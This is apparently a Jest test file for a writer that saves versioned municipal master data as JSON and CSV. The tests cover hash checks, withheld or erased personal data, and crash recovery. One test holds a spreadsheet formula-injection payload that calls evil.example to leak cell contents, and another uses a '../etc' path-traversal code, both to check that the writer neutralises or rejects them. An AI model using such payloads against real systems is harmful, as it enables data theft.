import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { PublishedEvent } from '@nws/distribution';
import { masterDataStream } from '@nws/workflows/connection-application/master-data/master-data.content';
import { MasterDataFiles, SPARES_DIR, hashOf } from './master-data-files.writer';
import { masterDataCsv, type VersionData } from './master-data.csv';

const content = { organization: { code: '132012', name: '八王子市' }, contacts: [{ department: '情報管理課, 情報連携係', phone: '0426207200' }] };
const event = (version: number, overrides: Partial<PublishedEvent['data']> = {}, kind = '市町村長部局'): PublishedEvent => ({
  eventId: `e-${version}`,
  position: 10 + version,
  type: 'MasterDataVersionRegistered',
  streamId: masterDataStream('132012', kind),
  occurredAt: '2025-04-01T09:00:00.000Z',
  recordedAt: '2025-04-01T09:00:00.000Z',
  correlationId: null,
  attempt: 1,
  data: { organizationCode: '132012', organizationKind: kind, version, applicationId: 'app', applicationNumber: 'N', category: '登録', contentHash: hashOf(content), content, ...overrides },
});

describe('MasterDataFiles', () => {
  let root: string;
  let opened: MasterDataFiles[];
  /** Closed after each test: a writer makes spares in the background, which must be done before the directory goes. */
  const writer = (...args: ConstructorParameters<typeof MasterDataFiles>) => {
    const files = new MasterDataFiles(...args);
    opened.push(files);
    return files;
  };
  const organs = () => readdirSync(root).filter((name) => name !== SPARES_DIR);
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'nws-files-'));
    opened = [];
  });
  afterEach(async () => {
    await Promise.all(opened.map((files) => files.close()));
    rmSync(root, { recursive: true, force: true });
  });

  it('writes JSON and CSV (UTF-8, quoted where needed) and leaves no temp file', async () => {
    const files = writer(root);
    expect(await files.publish(event(1))).toMatchObject({ kind: 'written' });
    expect(readdirSync(join(root, '132012')).sort()).toEqual(['v1.csv', 'v1.json']);
    expect(JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8'))).toMatchObject({ version: 1, contentHash: hashOf(content), eventId: 'e-1', position: 11 });
    expect(readFileSync(join(root, '132012', 'v1.csv'), 'utf8')).toContain('132012,1,' + hashOf(content) + ',contacts[0].department,"情報管理課, 情報連携係"\r\n');
  });

  it('a value a spreadsheet would run as a formula is written to the CSV with a leading apostrophe, and as it is to the JSON', async () => {
    const files = writer(root);
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"情報管理課")';
    const risky = { ...content, contacts: [{ department: formula, phone: '0426207200' }, { department: '+1', phone: '@x' }, { department: '-', phone: '\t=1' }] };
    expect(await files.publish(event(1, { content: risky, contentHash: hashOf(risky) }))).toMatchObject({ kind: 'written' });
    const csv = readFileSync(join(root, '132012', 'v1.csv'), 'utf8');
    expect(csv).toContain(`,contacts[0].department,"'=HYPERLINK(""http://evil.example/?x=""&A1,""情報管理課"")"\r\n`);
    expect(csv).toContain(",contacts[1].department,'+1\r\n");
    expect(csv).toContain(",contacts[1].phone,'@x\r\n");
    expect(csv).toContain(",contacts[2].department,'-\r\n");
    expect(csv).toContain(",contacts[2].phone,'\t=1\r\n");
    expect(csv).toContain(',contacts[0].phone,0426207200\r\n');
    expect(JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8')).content.contacts[0].department).toBe(formula);
  });

  it('content sent with a person withheld (［利用停止中］) is checked against its publishedContentHash, not refused for its contentHash; without it, or with a wrong one, it is refused', async () => {
    const files = writer(root);
    const withheld = { ...content, contacts: [{ department: '情報管理課, 情報連携係', phone: '［利用停止中］' }] };
    expect(await files.publish(event(1, { content: withheld }))).toMatchObject({ kind: 'rejected', reason: expect.stringContaining('does not match its content hash') });
    expect(await files.publish(event(1, { content: withheld, publishedContentHash: hashOf(content) }))).toMatchObject({ kind: 'rejected', reason: expect.stringContaining('its published content hash') });
    expect(await files.publish(event(1, { content: withheld, publishedContentHash: hashOf(withheld) }))).toMatchObject({ kind: 'written' });
    // The version keeps its identity: the registered content's hash.
    expect(JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8'))).toMatchObject({ contentHash: hashOf(content), publishedContentHash: hashOf(withheld) });
  });

  describe('the same version shown otherwise (a person withheld or shown again since)', () => {
    const withheld = { ...content, contacts: [{ department: '情報管理課, 情報連携係', phone: '［消去済み］' }] };
    const withheldEvent = () => event(1, { content: withheld, publishedContentHash: hashOf(withheld) });
    const onDisk = () => JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8')) as Record<string, unknown>;

    it('without a source to ask, the delivered copy replaces the file: a redelivery after an erasure scrubs it', async () => {
      const files = writer(root);
      await files.publish(event(1));
      expect(await files.publish(withheldEvent())).toMatchObject({ kind: 'written' });
      expect(onDisk()).toMatchObject({ contentHash: hashOf(content), publishedContentHash: hashOf(withheld), content: withheld });
      expect(readFileSync(join(root, '132012', 'v1.csv'), 'utf8')).not.toContain('0426207200');
    });

    it('with one, the version as published now decides: an older copy still showing the person does not overwrite the file that withholds them', async () => {
      const asked: Array<[string, string, number]> = [];
      const files = writer(root, undefined, {
        current: async (code, organ, version) => {
          asked.push([code, organ, version]);
          return withheldEvent().data;
        },
      });
      await files.publish(withheldEvent());
      expect(await files.publish(event(1))).toMatchObject({ kind: 'unchanged' });
      expect(asked).toEqual([['132012', '市町村長部局', 1]]);
      expect(onDisk()).toMatchObject({ publishedContentHash: hashOf(withheld), content: withheld });
    });

    it('refresh rewrites every version of the organ on disk from its current view, keeping what the delivery recorded; a version whose identity differs is refused, not written', async () => {
      const current = new Map<number, Record<string, unknown>>();
      const files = writer(root, undefined, {
        current: async (_code, _organ, version) => {
          const found = current.get(version);
          if (!found) throw new Error(`no version ${version}`);
          return found;
        },
      });
      await files.publish(event(1));
      const other = { ...content, contacts: [] };
      await files.publish(event(2, { content: other, contentHash: hashOf(other) }));
      current.set(1, withheldEvent().data).set(2, event(2, { content: other, contentHash: hashOf(other) }).data);
      expect(await files.refresh('132012', '市町村長部局')).toEqual([
        { version: 1, outcome: { kind: 'written', path: join(root, '132012', 'v1.json') } },
        { version: 2, outcome: { kind: 'unchanged', path: join(root, '132012', 'v2.json') } },
      ]);
      expect(onDisk()).toMatchObject({ eventId: 'e-1', position: 11, contentHash: hashOf(content), publishedContentHash: hashOf(withheld), content: withheld });
      // Shown again (利用停止 lifted): back to the registered content, without publishedContentHash.
      current.set(1, event(1).data);
      expect((await files.refresh('132012', '市町村長部局'))[0]).toMatchObject({ outcome: { kind: 'written' } });
      expect(onDisk()).not.toHaveProperty('publishedContentHash');
      expect(onDisk()['content']).toEqual(content);
      current.set(1, event(1, { content: other, contentHash: hashOf(other) }).data);
      expect((await files.refresh('132012', '市町村長部局'))[0]).toMatchObject({ outcome: { kind: 'rejected', reason: expect.stringContaining('on disk has content hash') } });
      expect(await files.refresh('132012', '市町村教育委員会')).toEqual([]);
      // A version the source cannot give is reported, and the others are still rewritten.
      current.delete(1);
      current.set(2, event(2, { content: withheld, contentHash: hashOf(other), publishedContentHash: hashOf(withheld) }).data);
      const refreshed = await files.refresh('132012', '市町村長部局');
      expect(refreshed[0]).toMatchObject({ version: 1, error: expect.any(Error) });
      expect(refreshed[1]).toEqual({ version: 2, outcome: { kind: 'written', path: join(root, '132012', 'v2.json') } });
    });
  });

  /**
   * A rewrite renames the CSV, then the JSON. Killed between the two, the CSV is a view ahead of
   * its JSON; when the view then goes back (利用停止 lifted, the distributor killed, suspended
   * again), the JSON matches the view again while the CSV does not. Before, that CSV was kept for
   * good: every later pass saw the JSON's hash match and the CSV merely there.
   */
  describe('a CSV out of step with its JSON (a crash between the renames) is rewritten by the next pass', () => {
    const person = { ...content, contacts: [{ department: '情報管理課', name: '高橋 四郎', phone: '0426207200' }] };
    const held = { ...person, contacts: [{ department: '情報管理課', name: '［利用停止中］', phone: '［利用停止中］' }] };
    const shownEvent = () => event(1, { content: person, contentHash: hashOf(person) });
    const heldEvent = () => event(1, { content: held, contentHash: hashOf(person), publishedContentHash: hashOf(held) });
    const csvOf = (shown: typeof person) => masterDataCsv({ organizationCode: '132012', version: 1, contentHash: hashOf(person), content: shown } as VersionData);
    const csv = () => readFileSync(join(root, '132012', 'v1.csv'), 'utf8');
    const json = () => JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8')) as { content: unknown };

    it.each([
      { what: 'lifted, killed, suspended again: the CSV must not keep the name', from: heldEvent, to: shownEvent, expected: held },
      { what: 'suspended, killed, lifted: the CSV must not keep ［利用停止中］', from: shownEvent, to: heldEvent, expected: person },
    ])('$what — the notice after the restart rewrites the CSV alone, and so does the refresh on start', async ({ from, to, expected }) => {
      let view = from().data;
      const current = async () => view;
      await writer(root, undefined, { current }).publish(from());
      // Killed right after the CSV's rename (made durable or not: the directory's fsync is next).
      view = to().data;
      const killed = writer(root, (step, detail) => {
        if (step === 'renamed' && detail.file === 'v1.csv') throw new Error('killed');
      }, { current });
      expect(await killed.refresh('132012', '市町村長部局')).toEqual([{ version: 1, error: new Error('killed') }]);
      expect(csv()).toBe(csvOf(to().data['content'] as typeof person));
      expect(json().content).toEqual(expected);

      view = from().data;
      const renamed: string[] = [];
      const restarted = writer(root, (step, detail) => (step === 'renamed' ? renamed.push(detail.file!) : undefined), { current });
      await restarted.recover();
      expect(await restarted.refresh('132012', '市町村長部局')).toEqual([{ version: 1, outcome: { kind: 'written', path: join(root, '132012', 'v1.json') } }]);
      expect(renamed).toEqual(['v1.csv']);
      expect(csv()).toBe(csvOf(expected));
      expect(json().content).toEqual(expected);
      // Both files as the view makes them: nothing left to do.
      expect(await restarted.refresh('132012', '市町村長部局')).toEqual([{ version: 1, outcome: { kind: 'unchanged', path: join(root, '132012', 'v1.json') } }]);
    });

    it('the redelivery of the version rewrites a stale CSV beside a current JSON, with or without a source to ask, and a CSV whose bytes differ at all (or a JSON whose content is not as its hash says)', async () => {
      for (const options of [{}, { current: async () => heldEvent().data }]) {
        const files = writer(root, undefined, options);
        await files.publish(heldEvent());
        writeFileSync(join(root, '132012', 'v1.csv'), csvOf(person));
        expect(await files.publish(heldEvent())).toMatchObject({ kind: 'written' });
        expect(csv()).toBe(csvOf(held));
        // Cut short, or one byte off: not the CSV the view makes either.
        for (const stale of [csvOf(held).slice(0, -2), csvOf(held).replace('\r\n', '\n')]) {
          writeFileSync(join(root, '132012', 'v1.csv'), stale);
          expect(await files.publish(heldEvent())).toMatchObject({ kind: 'written' });
          expect(csv()).toBe(csvOf(held));
        }
        // A JSON whose hashes say ［利用停止中］ but whose content has the person: not as shown either.
        writeFileSync(join(root, '132012', 'v1.json'), readFileSync(join(root, '132012', 'v1.json'), 'utf8').replaceAll('［利用停止中］', '高橋 四郎'));
        expect(await files.publish(heldEvent())).toMatchObject({ kind: 'written' });
        expect(json().content).toEqual(held);
        rmSync(join(root, '132012'), { recursive: true });
      }
    });
  });

  it('a CSV without its JSON (a first write killed between the renames) follows a notice too, and its redelivery then writes the JSON alone', async () => {
    const person = { ...content, contacts: [{ department: '情報管理課', name: '高橋 四郎', phone: '0426207200' }] };
    const erased = { ...person, contacts: [{ department: '情報管理課', name: '［消去済み］', phone: '［消去済み］' }] };
    const erasedEvent = () => event(1, { content: erased, contentHash: hashOf(person), publishedContentHash: hashOf(erased) });
    const killed = writer(root, (step, detail) => {
      if (step === 'renamed' && detail.file === 'v1.csv') throw new Error('killed');
    });
    await expect(killed.publish(event(1, { content: person, contentHash: hashOf(person) }))).rejects.toThrow('killed');
    const renamed: string[] = [];
    const restarted = writer(root, (step, detail) => (step === 'renamed' ? renamed.push(detail.file!) : undefined), { current: async () => erasedEvent().data });
    await restarted.recover();
    expect(await restarted.refresh('132012', '市町村長部局')).toEqual([{ version: 1, outcome: { kind: 'written', path: join(root, '132012', 'v1.csv') } }]);
    expect(readdirSync(join(root, '132012'))).toEqual(['v1.csv']);
    expect(readFileSync(join(root, '132012', 'v1.csv'), 'utf8')).not.toContain('高橋 四郎');
    expect(await restarted.publish(erasedEvent())).toMatchObject({ kind: 'written' });
    expect(renamed).toEqual(['v1.csv', 'v1.json']);
    expect(JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8'))).toMatchObject({ eventId: 'e-1', content: erased });
  });

  it('another organ of the same code (a board of education) gets a directory of its own: neither organ’s versions overwrite the other’s', async () => {
    const files = writer(root);
    const board = { ...content, organization: { code: '132012', name: '八王子市', kind: '市町村教育委員会' } };
    expect(await files.publish(event(1))).toMatchObject({ kind: 'written', path: join(root, '132012', 'v1.json') });
    expect(await files.publish(event(1, { content: board, contentHash: hashOf(board) }, '市町村教育委員会'))).toMatchObject({
      kind: 'written',
      path: join(root, '132012.municipal-board-of-education', 'v1.json'),
    });
    expect(organs().sort()).toEqual(['132012', '132012.municipal-board-of-education']);
    expect(JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8'))).toMatchObject({ organizationKind: '市町村長部局', contentHash: hashOf(content) });
    expect(JSON.parse(readFileSync(join(root, '132012.municipal-board-of-education', 'v1.json'), 'utf8'))).toMatchObject({ organizationKind: '市町村教育委員会', contentHash: hashOf(board) });
    // A version published before the organ was recorded is the default organ's, in its directory as before.
    const { organizationKind: _kind, ...legacy } = event(2).data;
    expect(await files.publish({ ...event(2), data: legacy })).toMatchObject({ kind: 'written', path: join(root, '132012', 'v2.json') });
    expect(await files.publish(event(3, { organizationKind: '教育委員会' }))).toMatchObject({ kind: 'rejected', reason: expect.stringContaining('not an organ') });
  });

  it('a redelivery of the same version is recognised by its content hash and writes nothing', async () => {
    const steps: string[] = [];
    const files = writer(root, (step) => steps.push(step));
    await files.publish(event(1));
    steps.length = 0;
    expect(await files.publish(event(1))).toMatchObject({ kind: 'unchanged' });
    expect(steps).toEqual([]);
  });

  it('refuses a version whose content does not match its hash, or that exists with another hash', async () => {
    const files = writer(root);
    expect(await files.publish(event(1, { contentHash: 'sha256:0' }))).toMatchObject({ kind: 'rejected', reason: expect.stringContaining('does not match') });
    await files.publish(event(2));
    const other = { ...content, organization: { code: '132012', name: '別内容' } };
    expect(await files.publish(event(2, { content: other, contentHash: hashOf(other) }))).toMatchObject({ kind: 'rejected', reason: expect.stringContaining('already exists') });
    expect(await files.publish(event(3, { organizationCode: '../etc' }))).toMatchObject({ kind: 'rejected' });
  });

  it('a crash between temp files and renames leaves the temp files (CSV and JSON), which the next start removes', async () => {
    const crashing = writer(root, (step) => {
      if (step === 'temp-written') throw new Error('killed');
    });
    await expect(crashing.publish(event(1))).rejects.toThrow('killed');
    expect(readdirSync(join(root, '132012')).map((name) => name.replace(/\.\d+\.[0-9a-f]+\.tmp$/, '.tmp')).sort()).toEqual(['.v1.csv.tmp', '.v1.json.tmp']);
    writeFileSync(join(root, 'unrelated.txt'), 'x');
    expect(await writer(root).recover()).toBe(2);
    expect(readdirSync(join(root, '132012'))).toEqual([]);
  });

  it('a crash between the CSV and the JSON leaves a complete CSV and no JSON; after restart the redelivery writes the JSON', async () => {
    const crashing = writer(root, (step, detail) => {
      if (step === 'renamed' && detail.file === 'v1.csv') throw new Error('killed');
    });
    await expect(crashing.publish(event(1))).rejects.toThrow('killed');
    expect(readdirSync(join(root, '132012')).filter((name) => !name.endsWith('.tmp'))).toEqual(['v1.csv']);
    const csv = readFileSync(join(root, '132012', 'v1.csv'), 'utf8');
    const restarted = writer(root);
    expect(await restarted.recover()).toBe(1);
    expect(await restarted.publish(event(1))).toMatchObject({ kind: 'written' });
    expect(readdirSync(join(root, '132012')).sort()).toEqual(['v1.csv', 'v1.json']);
    expect(readFileSync(join(root, '132012', 'v1.csv'), 'utf8')).toBe(csv);
  });

  it('start-up leaves the temp files of another running writer alone (instances sharing a directory) and removes those of one that is gone', async () => {
    const dir = join(root, '132012');
    mkdirSync(dir);
    const gone = spawnSync(process.execPath, ['-e', '']).pid!;
    writeFileSync(join(dir, `.v1.json.${process.ppid}.0a1b2c3d.tmp`), '{');
    writeFileSync(join(dir, `.v2.json.${gone}.0a1b2c3d.tmp`), '{');
    expect(await writer(root).recover()).toBe(1);
    expect(readdirSync(dir)).toEqual([`.v1.json.${process.ppid}.0a1b2c3d.tmp`]);
  });
  describe('spares: the temp files are made ahead of time, off the path from an approval to its file', () => {
    const spares = () => readdirSync(join(root, SPARES_DIR)).sort();
    const inode = (path: string) => statSync(path).ino;

    it('start-up makes two empty spares; a version is written into them, and two new ones are made', async () => {
      const files = writer(root);
      await files.recover();
      await files.sparesReady();
      const before = spares();
      expect(before).toHaveLength(2);
      for (const name of before) expect(statSync(join(root, SPARES_DIR, name)).size).toBe(0);
      const inodes = before.map((name) => inode(join(root, SPARES_DIR, name)));

      const publishing = files.publish(event(1));
      // No spare is made while the version's fsyncs run (new files would join the journal commit
      // they wait for): only the two being written are there.
      expect(spares()).toEqual(before);
      expect(await publishing).toMatchObject({ kind: 'written' });
      // The version's two files are the spares' inodes, renamed into the organ's directory.
      expect([inode(join(root, '132012', 'v1.csv')), inode(join(root, '132012', 'v1.json'))].sort()).toEqual([...inodes].sort());
      expect(readdirSync(join(root, '132012')).sort()).toEqual(['v1.csv', 'v1.json']);
      expect(JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8'))).toMatchObject({ version: 1, contentHash: hashOf(content) });
      expect((statSync(join(root, '132012', 'v1.json')).mode & 0o777).toString(8)).toBe('644');
      await files.sparesReady();
      const after = spares();
      expect(after).toHaveLength(2);
      expect(after.filter((name) => before.includes(name))).toEqual([]);
    });

    it('a stopped writer removes its spares and their directory', async () => {
      const files = writer(root);
      await files.recover();
      await files.publish(event(1));
      await files.close();
      expect(readdirSync(root)).toEqual(['132012']);
    });

    it('a spare removed by someone else meanwhile: the version is written into a file of its own', async () => {
      const files = writer(root);
      await files.recover();
      await files.sparesReady();
      rmSync(join(root, SPARES_DIR), { recursive: true });
      expect(await files.publish(event(1))).toMatchObject({ kind: 'written' });
      expect(readdirSync(join(root, '132012')).sort()).toEqual(['v1.csv', 'v1.json']);
      expect(JSON.parse(readFileSync(join(root, '132012', 'v1.json'), 'utf8'))).toMatchObject({ version: 1 });
      // And spares are made again for the next version.
      await files.sparesReady();
      expect(spares()).toHaveLength(2);
    });

    it('a crash inside a write into spares leaves them for the next start, which counts the written ones and removes them all', async () => {
      const crashing = writer(root, (step) => {
        if (step === 'temp-written') throw new Error('killed');
      });
      await crashing.recover();
      await crashing.sparesReady();
      await expect(crashing.publish(event(1))).rejects.toThrow('killed');
      await crashing.sparesReady();
      // The two spares of the crashed write, written; none made after it (that comes once a version is on disk); nothing in the organ's directory.
      const left = spares().map((name) => statSync(join(root, SPARES_DIR, name)).size > 0);
      expect(left).toEqual([true, true]);
      expect(readdirSync(join(root, '132012'))).toEqual([]);
      // A start in the same process (a restarted writer has a new pid; this one's own spares count as a dead writer's).
      const restarted = writer(root);
      expect(await restarted.recover()).toBe(2);
      await restarted.sparesReady();
      expect(spares().every((name) => statSync(join(root, SPARES_DIR, name)).size === 0)).toBe(true);
      expect(spares()).toHaveLength(2);
    });

    it('without spares (option off), writes make their own temp files beside the version', async () => {
      const files = writer(root, () => undefined, { spares: false });
      await files.recover();
      await files.publish(event(1));
      await files.sparesReady();
      expect(readdirSync(root)).toEqual(['132012']);
      expect(readdirSync(join(root, '132012')).sort()).toEqual(['v1.csv', 'v1.json']);
    });
  });
});
